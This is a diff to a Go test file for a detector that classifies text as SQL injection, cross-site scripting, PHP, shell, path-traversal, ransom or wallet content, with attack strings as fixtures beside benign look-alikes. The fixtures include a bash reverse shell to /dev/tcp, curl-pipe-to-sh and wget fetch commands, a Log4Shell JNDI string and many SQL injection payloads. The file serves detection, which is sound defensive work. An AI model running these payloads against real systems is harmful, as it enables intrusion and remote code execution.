@@ -5,93 +5,51 @@ import (
 	"testing"
 )
 
-func TestWhatLiteralsHold(t *testing.T) {
-	for _, c := range []struct{ text, want string }{
-		// Attacks.
-		{"<script>alert(1)</script>", "script"},
-		{"<ScRiPt src=//x>", "script"},
-		{"<img src=x onerror=alert(1)>", "script"},
-		{"<?php eval($_GET[1]); ?>", "php"},
-		{"<%@ page import=\"java.io.*\" %>", "php"},
-		{"{{7*7}}", "template"},
-		{"${jndi:ldap://x/a}", "shell"},
-		{"x; curl http://x/a | sh ", "shell"},
-		{"|bash -i >& /dev/tcp/1.2.3.4/5", "shell"},
-		{"../../../etc/passwd", "path"},
-		{"C:\\\\windows\\\\win.ini", "path"},
-		{"/VAR/www/html/x", "path"},
-		{"send 0.1 BTC to recover your data", "ransom"},
-		{"1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "wallet"},
-		{"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "wallet"},
-		{"a:1:{s:13:\"administrator\";b:1;}", "rights"},
-		{"1\\' or 1=1 -- ", "sql"},
-		{"1\\' OR \\'1\\'=\\'1", "sql"},
-		{"-1 union select 1,2,3", "sql"},
-		{"x\\')/**/UnIoN/**/aLl/**/SeLeCt/**/null,null#", "sql"},
-		{"1 and sleep(5)", "sql"},
-		{"1;drop table users", "sql"},
-		{"1 order by 10--", "sql"},
-		{"1) waitfor delay \\'0:0:5\\'--", "sql"},
-		{"a\\' and extractvalue(1,concat(0x7e,version()))", "sql"},
-		{"select table_name from information_schema.tables", "sql"},
-		{"1 || \\'a\\'=\\'a", "sql"},
-		{"1 and @@version > 5", "sql"},
-		// People and programs.
-		{"hello", ""},
-		{"this is not funny", ""},
-		{"Yahoo! (Y!)", ""},
-		{"cos(accckt)", ""},
-		{"o\\'neill", ""},
-		{"union nut", ""},
-		{"O\\'connors UNION selected a few friends", ""},
-		{"student union, select committee", ""},
-		{"SELECT quality; drop the price please", ""},
-		{"union of form & function -- nice", ""},
-		{"pump #3", ""},
-		{"2 or 4 metal buttons", ""},
-		{"rock and roll, 50% off", ""},
-		{"80% ACRYLIC AND 20% WOOL", ""},
-		{"<p>A paragraph with <a href=\"https://x.example/?a=1&b=2\">a link</a></p>", ""},
-		{"a:2:{s:4:\"name\";s:5:\"value\";i:0;b:1;}", ""},
-		{"{\"a\": 1, \"b\": [1, 2, {\"c\": \"d\"}]}", ""},
-		{"{{ user.name }}", ""},
-		{"https://x.example/wp-content/uploads/2024/01/a.jpg", ""},
-		{"$2y$10$abcdefghijklmnopqrstuv", ""},
-		{"2024-01-01 10:00:00", ""},
-		{"I sent 3 BTC once", ""},
-		{"information_schema", ""},
-		{"from 3 union select garden", ""},
-		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0", ""},
-		{"order by phone: 555-1234", ""},
-		{"having fun (1) and more", ""},
+// TestCodeInLongTexts: of a page, beginning and end are searched for inputs, and all
+// of it for scripts.
+func TestCodeInLongTexts(t *testing.T) {
+	page := strings.Repeat("the quick brown fox; ", maxInput/8)
+	for text, want := range map[string]codeClass{
+		"1' UNION SELECT 1, 2-- " + page:         sqlCode,
+		page + " 1' OR '1'='1":                   sqlCode,
+		page + "<script>x</script>" + page:       scriptCode,
+		page + "<?php system('id')" + page:       phpCode,
+		page + "wget http://x.example/a.sh":      shellCode,
+		page + ` "s:13:"administrator";"` + page: rightsText,
+		"/etc/passwd" + page:                     pathText,
+		page:                                     0,
 	} {
-		if got := literalKinds("insert into t values ('" + c.text + "')"); got != c.want {
-			t.Errorf("%s is %q, want %q", c.text, got, c.want)
-		}
-		if strings.Contains(c.text, "\\") {
-			continue
-		}
-		if got := literalKinds("insert into t values (0x" + hexOf(c.text) + ")"); got != c.want && len(c.text) >= shortestCode {
-			t.Errorf("%s in hex is %q, want %q", c.text, got, c.want)
+		if got := codeIn([]byte(text)); got != want {
+			t.Errorf("%.40q ... %q: %b, want %b", text, text[len(text)-20:], got, want)
 		}
 	}
 }
 
-// literalKinds returns what the literals of a statement hold.
-func literalKinds(sql string) string {
-	var list []string
-	for v := range of(sql, "").Values(Literals) {
-		list = append(list, v)
+// TestAnchors: each text that is looked for is found, in either case.
+func TestAnchors(t *testing.T) {
+	for _, list := range [][256][]anchored{attackPaths, shellWords} {
+		for _, texts := range list {
+			for _, a := range texts {
+				for _, text := range []string{"x " + a.text + "x", "x " + strings.ToUpper(a.text) + "x", "x" + a.text} {
+					if codeIn([]byte(text)) == 0 {
+						t.Errorf("%q is nothing", text)
+					}
+				}
+			}
+		}
 	}
-	return strings.Join(list, " ")
 }
 
-func hexOf(text string) string {
-	const digits = "0123456789abcdef"
-	var out strings.Builder
-	for _, c := range []byte(text) {
-		out.WriteByte(digits[c>>4])
-		out.WriteByte(digits[c&15])
+// TestWallets: an address is found wherever it stands.
+func TestWallets(t *testing.T) {
+	const address = "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"
+	for n := range 100 {
+		text := strings.Repeat("ab ", n) + strings.Repeat("-", n%7) + address + strings.Repeat(" abc", n%5)
+		if wallet([]byte(text))&walletText == 0 {
+			t.Errorf("no address in %q", text)
+		}
 	}
-	return out.String()
+	if got := wallet([]byte(strings.Repeat("x", 100) + address)); got != 0 {
+		t.Errorf("a longer word is an address: %b", got)
+	}
 }
